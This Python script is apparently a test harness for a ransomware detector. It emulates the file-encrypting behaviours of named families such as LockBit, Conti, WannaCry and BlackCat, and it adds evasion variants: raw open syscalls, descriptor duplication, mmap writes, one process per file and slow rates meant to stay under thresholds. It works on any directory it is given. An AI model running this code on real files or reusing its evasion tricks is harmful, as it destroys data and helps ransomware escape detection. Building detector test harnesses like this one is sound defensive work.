#!/usr/bin/env python3
"""Ransomware behaviours for the ransomware fibre's harness, modelled on published descriptions of
real families and written without regard to the fibre's numbers.

    behaviours.py corpus DIR COUNT SEED         write a corpus and print its SHA-256 manifest
    behaviours.py run BEHAVIOUR DIR             wait for a line on stdin (the gate), then attack DIR
    behaviours.py after PID BEHAVIOUR DIR       wait until process PID has ended, then attack DIR

Each attack prints 'first <ns>' (CLOCK_MONOTONIC, the clock of bpf_ktime_get_ns) just before its
first write and 'done' if it finishes. The cipher is a SHA-256 keystream XOR: the point is the file
system behaviour, not the cryptography.
"""
import ctypes
import hashlib
import mmap
import os
import subprocess
import sys
import threading
import time

KEY = hashlib.sha256(b"sigil harness key").digest()
_first_lock = threading.Lock()
_first = [False]


def first_write():
    with _first_lock:
        if not _first[0]:
            _first[0] = True
            print("first", time.monotonic_ns(), flush=True)


def keystream(n):
    blocks = (n + 31) // 32
    out = b"".join(hashlib.sha256(KEY + i.to_bytes(8, "little")).digest() for i in range(min(blocks, 4096)))
    while len(out) < n:
        out += out
    return out[:n]


def encrypt(data):
    if not data:
        return data
    return (int.from_bytes(data, "little") ^ int.from_bytes(keystream(len(data)), "little")).to_bytes(len(data), "little")


def targets(root):
    found = []
    for d, _, names in os.walk(root):
        for n in sorted(names):
            found.append(os.path.join(d, n))
    return sorted(found)


def corpus(root, count, seed):
    """count files of 4 KiB to 1 MiB, text and binary, in a few folders; prints 'sha256  path'."""
    import random
    rng = random.Random(seed)
    words = ["ledger", "invoice", "report", "draft", "photo", "thesis", "backup", "budget", "notes", "contract"]
    for i in range(count):
        folder = os.path.join(root, "dir%02d" % (i % 8))
        os.makedirs(folder, exist_ok=True)
        size = rng.choice([4096, 16384, 65536, 200000, 1048576]) if i % 7 else 1048576
        if i % 2:
            line = (" ".join(rng.choice(words) for _ in range(12)) + "\n").encode()
            data = (line * (size // len(line) + 1))[:size]
            name = "%s_%04d.txt" % (rng.choice(words), i)
        else:
            data = rng.randbytes(size)
            name = "%s_%04d.bin" % (rng.choice(words), i)
        path = os.path.join(folder, name)
        with open(path, "wb") as f:
            f.write(data)
        print(hashlib.sha256(data).hexdigest() + "  " + path)


# LockBit 2 / Conti: read each file, overwrite it in place with ciphertext, then rename it.
def inplace(path, rename=True):
    with open(path, "r+b") as f:
        data = f.read()
        f.seek(0)
        first_write()
        f.write(encrypt(data))
    if rename:
        os.rename(path, path + ".lockbit")


# WannaCry: write an encrypted copy beside the original, then delete the original.
def copy_unlink(path):
    with open(path, "rb") as f:
        data = f.read()
    with open(path + ".WNCRY", "wb") as f:
        first_write()
        f.write(encrypt(data))
    os.unlink(path)


# Ryuk-like variants that rename first (to the ransom extension), then encrypt in place.
def rename_encrypt(path):
    locked = path + ".locked"
    os.rename(path, locked)
    inplace(locked, rename=False)


# BlackCat / LockBit 3 intermittent mode: every other 64 KiB chunk, in place.
def intermittent(path):
    chunk = 65536
    with open(path, "r+b") as f:
        offset = 0
        while True:
            f.seek(offset)
            data = f.read(chunk)
            if not data:
                break
            f.seek(offset)
            first_write()
            f.write(encrypt(data))
            offset += 2 * chunk


# LockBit 3 fast mode: the first 4 KiB only.
def header_only(path):
    with open(path, "r+b") as f:
        data = f.read(4096)
        f.seek(0)
        first_write()
        f.write(encrypt(data))


# Truncate and rewrite: open the original with O_TRUNC after reading it (many commodity families).
def truncate_rewrite(path):
    with open(path, "rb") as f:
        data = f.read()
    with open(path, "wb") as f:
        first_write()
        f.write(encrypt(data))


# Evasion: open(2) instead of openat(2), through the raw syscall.
def open2(path):
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    with open(path, "rb") as f:
        data = f.read()
    fd = libc.syscall(2, path.encode(), os.O_WRONLY)  # SYS_open on x86_64
    if fd < 0:
        raise OSError(ctypes.get_errno(), "open")
    first_write()
    os.write(fd, encrypt(data))
    os.close(fd)


# Evasion: dup the descriptor, close the original, write through the copy.
def dup_close(path):
    fd = os.open(path, os.O_RDWR)
    data = os.read(fd, 1 << 21)
    copy = os.dup(fd)
    os.close(fd)
    first_write()
    os.pwrite(copy, encrypt(data), 0)
    os.close(copy)


# Evasion: a quick open and close of /dev/null between files (dilutes open/close counts).
def dummy_opens(path):
    for _ in range(3):
        os.close(os.open("/dev/null", os.O_RDONLY))
    inplace(path, rename=False)


# Evasion: write through a shared mapping instead of write(2).
def mmap_write(path):
    with open(path, "r+b") as f:
        size = os.fstat(f.fileno()).st_size
        with mmap.mmap(f.fileno(), size) as m:
            data = m[:]
            first_write()
            m[:] = encrypt(data)
            m.flush()


SIMPLE = {
    "inplace": inplace,
    "copy_unlink": copy_unlink,
    "rename_encrypt": rename_encrypt,
    "intermittent": intermittent,
    "header_only": header_only,
    "truncate_rewrite": truncate_rewrite,
    "open2": open2,
    "dup_close": dup_close,
    "dummy_opens": dummy_opens,
    "mmap_write": mmap_write,
}


def run(behaviour, root):
    files = targets(root)
    if behaviour in SIMPLE:
        for p in files:
            SIMPLE[behaviour](p)
    elif behaviour == "threads":
        # Conti: several worker threads over one queue of files.
        queue = list(files)
        lock = threading.Lock()

        def worker():
            while True:
                with lock:
                    if not queue:
                        return
                    p = queue.pop()
                inplace(p)

        threads = [threading.Thread(target=worker) for _ in range(4)]
        for t in threads:
            t.start()
        for t in threads:
            t.join()
    elif behaviour == "process_per_file":
        # One short-lived process per file: nothing a per-process price sees accumulates.
        for p in files:
            subprocess.run([sys.executable, __file__, "one", "inplace", p], check=False)
    elif behaviour == "slow":
        # One file a second, to stay under rate thresholds.
        for p in files:
            inplace(p)
            time.sleep(1.0)
    else:
        raise SystemExit("unknown behaviour " + behaviour)


def main():
    if sys.argv[1] == "corpus":
        corpus(sys.argv[2], int(sys.argv[3]), int(sys.argv[4]))
    elif sys.argv[1] == "one":
        SIMPLE[sys.argv[2]](sys.argv[3])
    elif sys.argv[1] == "after":
        pid = int(sys.argv[2])
        while True:
            try:
                os.kill(pid, 0)
            except ProcessLookupError:
                break
            time.sleep(0.01)
        run(sys.argv[3], sys.argv[4])
        print("done", flush=True)
    elif sys.argv[1] == "run":
        sys.stdin.readline()
        run(sys.argv[2], sys.argv[3])
        print("done", flush=True)


if __name__ == "__main__":
    main()
